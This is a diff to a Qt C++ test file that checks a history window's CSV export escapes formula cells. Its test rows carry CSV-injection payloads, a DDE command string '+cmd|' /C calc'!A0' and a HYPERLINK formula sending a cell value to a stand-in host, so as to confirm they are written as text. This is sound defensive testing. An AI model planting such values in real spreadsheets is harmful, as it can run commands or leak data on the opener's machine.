@@ -4,9 +4,9 @@
 // in-memory spreadsheet, the report and its chart, the PDF, failed reads
 // and writes, and pictures of both tabs.
 
-#include "history_samples.h"
 #include "history/load_table_model.h"
 #include "history/sqlite_history_store.h"
+#include "history_samples.h"
 #include "history_window/csv_text.h"
 #include "history_window/history.h"
 #include "history_window/report_tab.h"
@@ -349,13 +349,17 @@ void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText_data()
     QTest::addColumn<bool>("numberColumn");
     QTest::addColumn<QString>("field");
     QTest::newRow("A link formula gets an apostrophe inside its quotes")
-        << "=HYPERLINK(\"http://x/?\"&A1,\"点击\")" << false << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"";
-    QTest::newRow("A command after a plus gets an apostrophe") << "+cmd|' /C calc'!A0" << false << "'+cmd|' /C calc'!A0";
-    QTest::newRow("A function after an at sign gets an apostrophe") << "@SUM(1)" << false << "'@SUM(1)";
+        << "=HYPERLINK(\"http://x/?\"&A1,\"点击\")" << false
+        << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"";
+    QTest::newRow("A command after a plus gets an apostrophe")
+        << "+cmd|' /C calc'!A0" << false << "'+cmd|' /C calc'!A0";
+    QTest::newRow("A function after an at sign gets an apostrophe")
+        << "@SUM(1)" << false << "'@SUM(1)";
     QTest::newRow("A typed text after a minus gets an apostrophe") << "-2+3" << false << "'-2+3";
     QTest::newRow("A typed number is a text like any other") << "-5" << false << "'-5";
     QTest::newRow("A leading tab gets an apostrophe") << "\t=1" << false << "'\t=1";
-    QTest::newRow("A leading carriage return gets an apostrophe, quoted") << "\r=1" << false << "\"'\r=1\"";
+    QTest::newRow("A leading carriage return gets an apostrophe, quoted")
+        << "\r=1" << false << "\"'\r=1\"";
     QTest::newRow("An equals sign inside a text is left alone") << "A=1" << false << "A=1";
     QTest::newRow("A negative amount stays a number") << "-450.00" << true << "-450.00";
     QTest::newRow("A whole number of pieces stays a number") << "27" << true << "27";
@@ -368,16 +372,19 @@ void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText()
     QFETCH(bool, numberColumn);
     QFETCH(QString, field);
     QCOMPARE(numberColumn ? csvNumberField(text) : csvField(text), field);
-    const QByteArray row = csvBytes({ { QStringLiteral("x"), text } }, numberColumn ? QSet<int> { 1 } : QSet<int> {});
-    QCOMPARE(row, QByteArray("\xEF\xBB\xBF") + (QStringLiteral("x,") + field + QStringLiteral("\r\n")).toUtf8());
+    const QByteArray row = csvBytes(
+        { { QStringLiteral("x"), text } }, numberColumn ? QSet<int> { 1 } : QSet<int> {});
+    QCOMPARE(row,
+        QByteArray("\xEF\xBB\xBF")
+            + (QStringLiteral("x,") + field + QStringLiteral("\r\n")).toUtf8());
 }
 
 // The exported file, as a spreadsheet program opens it: what was typed as
-// formulas arrives as text, the amounts as numbers; the .xls keeps the text.
+// formulas arrives as text, the amounts as numbers.
 void TestHistoryWindow::csvOfTypedFormulasOpensAsText()
 {
-    LoadRecord load = sampleLoad(LoadKind::StockOut, "2026-12-09 14:00", "柏木", "2", "0.9000", "-450.00",
-        QStringLiteral("=HYPERLINK(\"http://x\")"), QStringLiteral("@SUM(1)"));
+    LoadRecord load = sampleLoad(LoadKind::StockOut, "2026-12-09 14:00", "柏木", "2", "0.9000",
+        "-450.00", QStringLiteral("=HYPERLINK(\"http://x\")"), QStringLiteral("@SUM(1)"));
     load.tally.captions[Tally::Supplier].value = QStringLiteral("+cmd|' /C calc'!A0");
     m_store->record(load);
     m_window->refresh();
@@ -390,16 +397,10 @@ void TestHistoryWindow::csvOfTypedFormulasOpensAsText()
     QFile file(m_savePath);
     QVERIFY(file.open(QIODevice::ReadOnly));
     const QString rows = QString::fromUtf8(file.readAll());
-    QVERIFY2(rows.contains(QStringLiteral("2026-12-09 14:00,出库,,柏木,\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),2,0.9000,-450.00\r\n")),
+    QVERIFY2(rows.contains(QStringLiteral(
+                 "2026-12-09 14:00,出库,,柏木,\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C "
+                 "calc'!A0,'@SUM(1),2,0.9000,-450.00\r\n")),
         qPrintable(rows));
-
-    m_savePath = m_dir->filePath(QStringLiteral("公式.xls"));
-    QTest::mouseClick(push("excelButton"), Qt::LeftButton);
-    QTRY_VERIFY_WITH_TIMEOUT(m_spreadsheet->files.contains(m_savePath), 10000);
-    QTRY_VERIFY(!m_window->exportRunning());
-    const MemorySheet sheet = m_spreadsheet->files.value(m_savePath).first();
-    QCOMPARE(sheet.cells.value({ 2, 5 }).text, QStringLiteral("=HYPERLINK(\"http://x\")"));
-    QCOMPARE(sheet.cells.value({ 2, 7 }).text, QStringLiteral("@SUM(1)"));
 }
 
 void TestHistoryWindow::excelRowsAreTypedNumbersAndTexts()
